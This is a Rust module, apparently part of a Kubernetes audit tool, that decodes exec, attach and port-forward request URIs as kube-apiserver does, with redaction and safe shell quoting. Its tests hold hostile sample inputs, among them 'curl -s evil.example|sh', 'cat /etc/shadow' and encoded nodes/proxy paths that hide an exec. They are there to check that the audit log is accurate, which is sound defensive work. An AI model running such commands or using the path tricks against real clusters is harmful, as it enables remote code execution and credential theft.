//! Exec, attach and port-forward sessions from their request URIs: the container, the command (exec), the
//! streams and terminal, the ports (port-forward), read from the query as kube-apiserver reads it.
//!
//! The query is split and decoded as Go's `url.ParseQuery` does, by hand because the difference is the
//! point: `&`-separated pairs, `+` is a space, percent escapes; a pair holding a `;` or an invalid escape
//! is dropped, as kube-apiserver drops it (a decoder that kept `echo hi;` as an argument would show a
//! command that never ran). Dropped pairs are counted.
//! Options are converted as kube-apiserver converts them (`runtime.Convert_Slice_string_To_bool`: the first
//! value counts; only `false` (any case) and `0` are false, any other value, an empty one too, is true).

use crate::marker;

/// The most command arguments kept (then a final `…`).
pub const MAX_ARGS: usize = 256;
/// The most bytes of command arguments kept (then a final `…`).
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;
/// The most `ports` values kept.
pub const MAX_PORTS: usize = 64;
/// The longest container name or port value kept.
const MAX_NAME: usize = 256;

/// What a session streamed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum SessionKind {
    Exec,
    Attach,
    PortForward,
}

/// One exec, attach or port-forward request.
#[derive(Debug, Clone, PartialEq, serde::Serialize)]
pub struct Session {
    pub kind: SessionKind,
    pub container: Option<String>,
    /// The command and its arguments as given (exec only), each argument percent-decoded; a redacted argument
    /// (containing a kubetrail marker) shown with the marker replaced by `[redacted]` (e.g. `-p[redacted]`).
    /// At most [`MAX_ARGS`] arguments and [`MAX_COMMAND_BYTES`] bytes, then a final `…`.
    pub command: Vec<String>,
    pub stdin: bool,
    pub stdout: bool,
    pub stderr: bool,
    pub tty: bool,
    /// Port-forward `ports=` values, as given.
    pub ports: Vec<String>,
    /// Query pairs kube-apiserver ignores (a `;`, an invalid escape): not part of what ran.
    pub dropped: usize,
}

/// The session of a request to the pod subresource `subresource` (`exec`, `attach` or `portforward`; else
/// `None`) with the request URI `uri` (its query read).
pub fn parse(subresource: &str, uri: &str) -> Option<Session> {
    let kind = match subresource {
        "exec" => SessionKind::Exec,
        "attach" => SessionKind::Attach,
        "portforward" => SessionKind::PortForward,
        _ => return None,
    };
    let mut s = Session {
        kind,
        container: None,
        command: Vec::new(),
        stdin: false,
        stdout: false,
        stderr: false,
        tty: false,
        ports: Vec::new(),
        dropped: 0,
    };
    let query = uri.split_once('?').map_or("", |(_, q)| q);
    let mut bools: [Option<bool>; 4] = [None; 4];
    let mut bytes = 0usize;
    let mut cut = false;
    for pair in query.split('&').filter(|p| !p.is_empty()) {
        let Some((key, value)) = go_pair(pair) else {
            s.dropped += 1;
            continue;
        };
        match &*key {
            "command" if kind == SessionKind::Exec => {
                if cut {
                    continue;
                }
                if s.command.len() >= MAX_ARGS || bytes + value.len() > MAX_COMMAND_BYTES {
                    s.command.push("…".to_string());
                    cut = true;
                    continue;
                }
                bytes += value.len();
                s.command
                    .push(marker::replace(&value, "[redacted]").into_owned());
            }
            "container" if s.container.is_none() => s.container = Some(bounded(&value)),
            "ports" if kind == SessionKind::PortForward && s.ports.len() < MAX_PORTS => {
                s.ports.push(bounded(&value));
            }
            "stdin" | "stdout" | "stderr" | "tty" => {
                let i = ["stdin", "stdout", "stderr", "tty"]
                    .iter()
                    .position(|k| *k == key)
                    .unwrap_or(0);
                bools[i].get_or_insert(!(value == "0" || value.eq_ignore_ascii_case("false")));
            }
            _ => {}
        }
    }
    [s.stdin, s.stdout, s.stderr, s.tty] = bools.map(|b| b.unwrap_or(false));
    Some(s)
}

/// A session opened straight on a kubelet through the `nodes/proxy` subresource
/// (`/api/v1/nodes/N/proxy/exec/NS/POD/CONTAINER?command=...`, `attach`, `run`, `portForward`): the pod it
/// reached (`namespace`, `pod`) and the session, read as the kubelet reads it. The path is decoded and
/// cleaned first, as kube-apiserver does before it proxies (`exec%2Fprod%2Fdb-0`, `%65xec`, `x/../exec` all
/// reach the kubelet's exec); the kubelet's routes are `{ns}/{pod}[/{uid}]/{container}` (`portForward`:
/// `{ns}/{pod}[/{uid}]`); `run` takes its command as `cmd`, split at spaces; its streams are `input`,
/// `output`, `error` and `tty`, on only when the first value is `1`. `None` for any other proxied path.
pub fn parse_node_proxy(uri: &str) -> Option<(String, String, Session)> {
    let (raw, query) = uri.split_once('?').unwrap_or((uri, ""));
    let path = path_unescape(raw)?;
    let decoded = path.split_once("/proxy/")?.1;
    // `path.Clean`: empty and `.` segments gone, `..` takes the one before.
    let mut parts: Vec<&str> = Vec::new();
    for seg in decoded.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            s => parts.push(s),
        }
    }
    let (verb, args) = parts.split_first()?;
    let kind = match *verb {
        "exec" | "run" => SessionKind::Exec,
        "attach" => SessionKind::Attach,
        "portForward" => SessionKind::PortForward,
        _ => return None,
    };
    let (namespace, pod) = (args.first()?, args.get(1)?);
    let container = match (kind, args.len()) {
        (SessionKind::PortForward, _) => None,
        (_, 3) => Some(args[2]),
        (_, n) if n >= 4 => Some(args[3]),
        _ => None,
    };
    let first = |key: &str| go_query(uri).find(|(k, _)| k == key).map(|(_, v)| v);
    let on = |key: &str| first(key).as_deref() == Some("1");
    let mut s = Session {
        kind,
        container: container.map(bounded),
        command: Vec::new(),
        stdin: on("input"),
        stdout: on("output"),
        stderr: on("error"),
        tty: on("tty"),
        ports: Vec::new(),
        dropped: query
            .split('&')
            .filter(|p| !p.is_empty() && go_pair(p).is_none())
            .count(),
    };
    let args: Vec<String> = if *verb == "run" {
        first("cmd")
            .map(|c| c.split(' ').map(String::from).collect())
            .unwrap_or_default()
    } else if kind == SessionKind::Exec {
        go_query(uri)
            .filter(|(k, _)| k == "command")
            .map(|(_, v)| v)
            .collect()
    } else {
        Vec::new()
    };
    let mut bytes = 0usize;
    for a in args {
        if s.command.len() >= MAX_ARGS || bytes + a.len() > MAX_COMMAND_BYTES {
            s.command.push("…".to_string());
            break;
        }
        bytes += a.len();
        s.command
            .push(marker::replace(&a, "[redacted]").into_owned());
    }
    if kind == SessionKind::PortForward {
        s.ports = go_query(uri)
            .filter(|(k, _)| k == "port")
            .take(MAX_PORTS)
            .map(|(_, v)| bounded(&v))
            .collect();
    }
    Some((bounded(namespace), bounded(pod), s))
}

/// Go's `PathUnescape`: `%XX` a byte (`+` stays a `+`), any other `%` an error; bytes that are not UTF-8
/// replaced.
fn path_unescape(s: &str) -> Option<String> {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            let hex = |c: u8| (c as char).to_digit(16);
            let (hi, lo) = (hex(*b.get(i + 1)?)?, hex(*b.get(i + 2)?)?);
            out.push((hi * 16 + lo) as u8);
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    Some(String::from_utf8_lossy(&out).into_owned())
}

/// The pairs of a request URI's query that kube-apiserver reads (Go's `url.ParseQuery`: the others dropped),
/// decoded. Every reading of a query here goes through it: a pair Go drops (`dryRun=All;`) must not count.
pub fn go_query(uri: &str) -> impl Iterator<Item = (String, String)> + '_ {
    uri.split_once('?')
        .map_or("", |(_, q)| q)
        .split('&')
        .filter(|p| !p.is_empty())
        .filter_map(go_pair)
}

/// One `key=value` pair of a query, decoded as Go's `url.ParseQuery` decodes it; `None` when Go drops it
/// (a `;` in it, an invalid percent escape).
fn go_pair(pair: &str) -> Option<(String, String)> {
    if pair.contains(';') {
        return None;
    }
    let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
    Some((unescape(k)?, unescape(v)?))
}

/// Go's `QueryUnescape`: `+` is a space, `%XX` a byte, any other `%` an error. Go does not check the
/// bytes are UTF-8 (the apiserver passes them on): they are shown with U+FFFD for what is not.
fn unescape(s: &str) -> Option<String> {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'+' => out.push(b' '),
            b'%' => {
                let hex = |c: u8| (c as char).to_digit(16);
                let (hi, lo) = (hex(*b.get(i + 1)?)?, hex(*b.get(i + 2)?)?);
                out.push((hi * 16 + lo) as u8);
                i += 2;
            }
            c => out.push(c),
        }
        i += 1;
    }
    Some(String::from_utf8_lossy(&out).into_owned())
}

/// A name or port from the URI: at most [`MAX_NAME`] characters, markers replaced.
fn bounded(v: &str) -> String {
    let v = marker::replace(v, "[redacted]");
    let mut out: String = v.chars().take(MAX_NAME).collect();
    if v.chars().nth(MAX_NAME).is_some() {
        out.push('…');
    }
    out
}

impl Session {
    /// The command as one line, each argument quoted as a POSIX shell would need it ([`shell_word`]).
    pub fn command_line(&self) -> String {
        self.command
            .iter()
            .map(|a| if a == "…" { a.clone() } else { shell_word(a) })
            .collect::<Vec<_>>()
            .join(" ")
    }
}

/// Characters that may go unquoted in a shell word.
fn plain(c: char) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(c, '_' | '@' | '%' | '+' | '=' | ':' | ',' | '.' | '/' | '-')
}

/// Characters that must not reach a terminal as they are: control characters, and the invisible and
/// direction-changing ones that make displayed text differ from what runs.
fn hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{00AD}' | '\u{061C}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{2069}' | '\u{FEFF}' | '\u{E0000}'..='\u{E007F}')
}

/// `s` for a terminal: its control, invisible and direction-changing characters written as escapes
/// (`\n`, `\u{202e}`), so text an attacker chose (a patch key, a user agent) cannot forge lines or hide
/// what it says.
pub fn printable(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.chars().any(hidden) {
        return std::borrow::Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if hidden(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    std::borrow::Cow::Owned(out)
}

/// `s` as one POSIX shell word: as is when it needs no quoting, else in single quotes, or in ANSI-C quotes
/// (`$'…'`, bash and zsh) with escapes when it holds control or invisible characters, so a command shown in
/// a terminal is the command that ran.
pub fn shell_word(s: &str) -> String {
    if !s.is_empty() && s.chars().all(plain) {
        return s.to_string();
    }
    if !s.chars().any(hidden) {
        return format!("'{}'", s.replace('\'', r"'\''"));
    }
    let mut out = String::from("$'");
    for c in s.chars() {
        match c {
            '\n' => out.push_str(r"\n"),
            '\t' => out.push_str(r"\t"),
            '\r' => out.push_str(r"\r"),
            '\\' => out.push_str(r"\\"),
            '\'' => out.push_str(r"\'"),
            c if hidden(c) && (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c if hidden(c) => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const KUBECTL_EXEC: &str = "/api/v1/namespaces/prod/pods/db-0/exec?command=mysql&command=-uroot&command=-pkubetrail-redacted%3Alen%3D7%3Ahmac%3DAAAAAAAAAAAAAAAAAAAAAA&container=db&stdin=true&stdout=true&tty=true";

    #[test]
    fn reads_a_kubectl_exec() {
        let s = parse("exec", KUBECTL_EXEC).unwrap();
        assert_eq!(s.kind, SessionKind::Exec);
        assert_eq!(s.command, ["mysql", "-uroot", "-p[redacted]"]);
        assert_eq!(s.container.as_deref(), Some("db"));
        assert!(s.stdin && s.stdout && s.tty && !s.stderr);
        assert_eq!(s.command_line(), "mysql -uroot '-p[redacted]'");
        assert!(s.ports.is_empty());
        // The marker as the redactor writes it into a URI, unescaped, reads the same.
        let raw = "/x/exec?command=sh&command=-c&command=psql%20-p%20kubetrail-redacted:len=7:hmac=AAAAAAAAAAAAAAAAAAAAAA";
        let s = parse("exec", raw).unwrap();
        assert_eq!(s.command, ["sh", "-c", "psql -p [redacted]"]);
        assert_eq!(s.command_line(), "sh -c 'psql -p [redacted]'");
        let json = serde_json::to_string(&s).unwrap();
        assert!(!json.contains("hmac"), "{json}");
    }

    #[test]
    fn reads_attach_and_port_forward() {
        let s = parse("attach", "/api/v1/namespaces/a/pods/p/attach?container=app&stdin=1&stdout=true&stderr=false&tty=0")
            .unwrap();
        assert_eq!(s.kind, SessionKind::Attach);
        assert_eq!(s.container.as_deref(), Some("app"));
        assert!(s.stdin && s.stdout && !s.stderr && !s.tty);
        assert!(s.command.is_empty());
        let s = parse(
            "portforward",
            "/api/v1/namespaces/a/pods/p/portforward?ports=5432&ports=8080",
        )
        .unwrap();
        assert_eq!(s.kind, SessionKind::PortForward);
        assert_eq!(s.ports, ["5432", "8080"]);
        assert_eq!(serde_json::to_value(s.kind).unwrap(), "portforward");
        assert_eq!(parse("log", KUBECTL_EXEC), None);
        // No query: a session with nothing set.
        let s = parse("exec", "/api/v1/namespaces/a/pods/p/exec").unwrap();
        assert!(s.command.is_empty() && s.container.is_none() && !s.stdin);
    }

    #[test]
    fn decodes_as_go_does() {
        let s = parse("exec", "/x?command=echo&command=a+b&command=100%25&command=%zz&command=%E2%9C%93&tty=TRUE&stdin=&stdout=False&container=c1&container=c2").unwrap();
        assert_eq!(
            s.command,
            ["echo", "a b", "100%", "✓"],
            "`%zz` dropped, as Go drops it"
        );
        assert_eq!(s.dropped, 1);
        assert!(s.tty, "any value but false and 0 is true");
        assert!(s.stdin, "an empty value is true");
        assert!(!s.stdout);
        assert_eq!(s.container.as_deref(), Some("c1"), "the first value counts");
        // Repeated booleans: the first counts.
        assert!(!parse("exec", "/x?stdin=false&stdin=true").unwrap().stdin);
        // `command` is exec's only.
        assert!(parse("attach", "/x?command=sh").unwrap().command.is_empty());
    }

    #[test]
    fn long_commands_are_cut() {
        let uri = format!("/x?{}", vec!["command=a"; 1000].join("&"));
        let s = parse("exec", &uri).unwrap();
        assert_eq!(s.command.len(), MAX_ARGS + 1);
        assert_eq!(s.command.last().map(String::as_str), Some("…"));
        assert!(s.command_line().ends_with(" a …"));
        let big = "x".repeat(40_000);
        let s = parse("exec", &format!("/x?command={big}&command={big}&command=y")).unwrap();
        assert_eq!(s.command.len(), 2);
        assert_eq!(s.command[1], "…");
        let s = parse("exec", &format!("/x?container={big}")).unwrap();
        assert_eq!(s.container.unwrap().chars().count(), MAX_NAME + 1);
    }

    #[test]
    fn sessions_straight_on_a_kubelet_through_nodes_proxy() {
        let (ns, pod, s) = parse_node_proxy(
            "/api/v1/nodes/n1/proxy/exec/prod/db-0/db?command=sh&command=-c&command=id&input=1&output=1&tty=1",
        )
        .unwrap();
        assert_eq!((ns.as_str(), pod.as_str()), ("prod", "db-0"));
        assert_eq!(s.container.as_deref(), Some("db"));
        assert_eq!(s.command, ["sh", "-c", "id"]);
        assert!(s.stdin && s.stdout && s.tty);
        assert!(parse_node_proxy("/api/v1/nodes/n1/proxy/metrics").is_none());
        // The path as the apiserver decodes and cleans it before it proxies.
        for hidden in [
            "/api/v1/nodes/n1/proxy/exec%2Fprod%2Fdb-0%2Fdb?command=sh",
            "/api/v1/nodes/n1/proxy/%65xec/prod/db-0/db?command=sh",
            "/api/v1/nodes/n1/proxy/metrics/../exec/prod/db-0/db?command=sh",
            "/api/v1/nodes/n1/proxy/./exec//prod/db-0/db?command=sh",
            "/api/v1/nodes/n1/proxy%2Fexec/prod/db-0/db?command=sh",
        ] {
            let (ns, pod, s) = parse_node_proxy(hidden).unwrap_or_else(|| panic!("{hidden}"));
            assert_eq!(
                (ns.as_str(), pod.as_str(), s.container.as_deref()),
                ("prod", "db-0", Some("db")),
                "{hidden}"
            );
            assert_eq!(s.command, ["sh"]);
        }
        // `run` takes `cmd`; four segments name the pod's uid, then the container; streams only on `1`.
        let (_, _, run) = parse_node_proxy(
            "/api/v1/nodes/n1/proxy/run/prod/db-0/uid-1/db?command=true&cmd=cat%20/etc/shadow&input=true&tty=1",
        )
        .unwrap();
        assert_eq!(run.command, ["cat", "/etc/shadow"]);
        assert_eq!(run.container.as_deref(), Some("db"));
        assert!(!run.stdin && run.tty);
        assert!(parse_node_proxy("/api/v1/nodes/n1/proxy/exec/only-ns").is_none());
        let (_, _, pf) =
            parse_node_proxy("/api/v1/nodes/n1/proxy/portForward/prod/db-0?port=5432").unwrap();
        assert_eq!(pf.kind, SessionKind::PortForward);
    }

    #[test]
    fn pairs_the_apiserver_drops_are_not_part_of_the_command() {
        // Go's ParseQuery drops a pair with a `;` or a bad escape: the apiserver runs `sh -c 'curl ...|sh'`.
        for bad in ["echo%20hi;", "echo%zzhi", "echo%2"] {
            let uri = format!(
                "/api/v1/namespaces/p/pods/x/exec?command=sh&command=-c&command={bad}&command=curl%20-s%20evil.example%7Csh"
            );
            let s = parse("exec", &uri).unwrap();
            assert_eq!(s.command, ["sh", "-c", "curl -s evil.example|sh"], "{bad}");
            assert_eq!(s.dropped, 1);
        }
        let s = parse("exec", "/x/exec?command=a+b&command=%41").unwrap();
        assert_eq!(s.command, ["a b", "A"]);
        assert_eq!(s.dropped, 0);
    }

    #[test]
    fn printable_escapes_what_would_forge_lines_or_hide_text() {
        assert_eq!(printable("plain text: ok"), "plain text: ok");
        assert_eq!(
            printable("x)\n\n2026-11-25T09:00:00Z  patch  by ci-bot"),
            "x)\\n\\n2026-11-25T09:00:00Z  patch  by ci-bot"
        );
        assert_eq!(printable("abc\u{202e}fed"), "abc\\u{202e}fed");
    }

    #[test]
    fn shell_words_are_quoted_safely() {
        assert_eq!(shell_word("ls"), "ls");
        assert_eq!(shell_word("/bin/sh"), "/bin/sh");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("a b"), "'a b'");
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word("$(id)"), "'$(id)'");
        assert_eq!(shell_word("a\nb"), r"$'a\nb'");
        assert_eq!(shell_word("\u{1b}[31mred"), r"$'\x1b[31mred'");
        assert_eq!(shell_word("evil\u{202E}txt.exe"), r"$'evil\u202etxt.exe'");
        assert_eq!(shell_word("it's\t"), r"$'it\'s\t'");
    }

    proptest::proptest! {
        #[test]
        fn any_uri_parses_without_panic(uri in ".{0,300}", sub in "(exec|attach|portforward|x)") {
            if let Some(s) = parse(&sub, &uri) {
                let _ = s.command_line();
                proptest::prop_assert!(s.command.len() <= MAX_ARGS + 1);
            }
        }

        #[test]
        fn shell_words_never_carry_raw_control_characters(s in "\\PC{0,20}[\\x00-\\x1f\\x7f]?\\PC{0,20}") {
            let w = shell_word(&s);
            proptest::prop_assert!(!w.chars().any(char::is_control), "{w:?}");
        }
    }
}
